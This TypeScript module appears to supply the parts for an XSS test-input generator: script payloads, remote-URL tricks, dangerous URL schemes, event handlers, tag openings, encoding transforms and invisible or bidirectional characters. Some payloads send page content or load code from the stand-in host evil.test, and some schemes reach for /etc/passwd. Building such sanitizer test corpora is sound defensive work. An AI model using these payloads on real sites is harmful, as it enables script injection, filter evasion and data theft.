// The parts of which hostileForms.ts makes attacks: scripts, addresses, schemes, tags, events, and ways to write the same in other characters.

function words(text: string): readonly string[] {
  return text.trim().split(/\s+/);
}

/** Each of them would be counted: by what it calls, what it sets, or what it asks for. */
export const scripts = [
  'alert(1)',
  'confirm(1)',
  'prompt`1`',
  'print()',
  'open(1)',
  'window.ranHere=1',
  '(0,eval)("ale"+"rt(1)")',
  '[1].find(alert)',
  'top["al"+"ert"](1)',
  'Function("alert(1)")()',
  'setTimeout`alert\\x281\\x29`',
  'import("https://evil.test/m.js")',
  'fetch("//evil.test/?"+document.body.innerText)',
  'location="https://evil.test/"',
  'new Image().src="https://evil.test/i"',
  'new WebSocket("wss://evil.test/")',
  'navigator.sendBeacon("https://evil.test/b",1)',
  'document.write("<img src=//evil.test/w>")',
];

export const remotes = [
  'https://evil.test/x',
  '//evil.test/x',
  'http:evil.test/x',
  'https:/\\evil.test/x',
  '\\\\evil.test\\x',
  'https://ok.test@evil.test/x',
  'https://xn--pple-43d.test/',
  'https://\u0435xample.test/',
  'HTTPS://EVIL.TEST/X',
  'https://evil.test/x%0d%0aset-cookie:a',
  'ftp://evil.test/x',
  'ws://evil.test/x',
  '/x',
  'x',
  '#x',
  '?x',
];

export const schemes = words(`
  javascript: vbscript: livescript: data:text/html, data:text/html;charset=utf-7, data:image/svg+xml,
  data:application/javascript, data:, feed:javascript: view-source:javascript: jar:javascript:
  file:///etc/passwd? command:workbench.action.terminal.new? vscode:extension/
  vscode-webview-resource: vscode-file://vscode-app/ blob: filesystem: about:blank# chrome://settings/
  intent: ms-msdt:/id? mailto:a@evil.test?attach=/etc/passwd&subject=
`);

export const events = words(`
  onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbeforetoggle onanimationstart
  onanimationend ontransitionend onbegin onend onscroll onscrollend onscrollsnapchange
  oncontentvisibilityautostatechange onpageshow onresize onhashchange onmessage
  onsecuritypolicyviolation onwheel oncopy onpaste ondragover onloadstart oncanplay onstart onbounce
  onreadystatechange ONERROR OnLoAd
`);

/** Between a tag's name and its attributes. */
export const separators = [
  ' ',
  '/',
  '\t',
  '\n',
  '\f',
  '\r',
  '\0 ',
  ' / ',
  '//',
  ' \u00a0',
  '"',
  "'",
  ' x=">" ',
  ' x=`>` ',
  '\u2028',
  ' \\',
];

export const characterForms: readonly ((character: string) => string)[] = [
  (character) => character,
  (character) => character.toUpperCase(),
  (character) => character.toLowerCase(),
  (character) => `&#${codeOf(character)};`,
  (character) => `&#0000${codeOf(character)}`,
  (character) => `&#x${codeOf(character).toString(16)};`,
  (character) => `&#X00${codeOf(character).toString(16)}`,
  (character) => `%${codeOf(character).toString(16).padStart(2, '0')}`,
  (character) => `\\${character}`,
  (character) => `\\u${codeOf(character).toString(16).padStart(4, '0')}`,
  (character) => `\\${codeOf(character).toString(16)} `,
  (character) => (/[!-~]/.test(character) ? String.fromCharCode(codeOf(character) + 0xfee0) : character),
  (character) => (character === ':' ? '&colon;' : character),
  (character) => (character === '(' ? '&lpar;' : character),
];

/** Within a scheme some readers skip them, others do not. */
export const skipped = [
  '\t',
  '\n',
  '\r',
  '\0',
  '\u0001',
  '\u001f',
  '&Tab;',
  '&NewLine;',
  '&#9;',
  '&#x0A;',
  '\u00ad',
  '\u200b',
  '\ufeff',
  '/**/',
  ' ',
];

/** What is not seen, or turns around what is. */
export const unseen = [
  '\u202a',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u200b',
  '\u200d',
  '\u{e0041}',
  '\ud800',
];

function codeOf(character: string): number {
  return character.charCodeAt(0);
}

/** How a tag may begin that can have a handler. */
export const tagStarts = `
  img, svg, body, video, audio, details open, input autofocus, select autofocus,
  textarea autofocus, iframe, object, embed, marquee, math, style, link,
  a href tabindex=1 autofocus, x contenteditable, div style=content-visibility:auto, isindex,
  bgsound, button popovertarget=x, dialog open, portal, fencedframe, keygen autofocus, frameset,
  xss id=x tabindex=1, svg><animate, svg><set, image, template shadowrootmode=open><img, source,
  track default, noscript><img, form><input
`
  .trim()
  .split(/,\s+/);
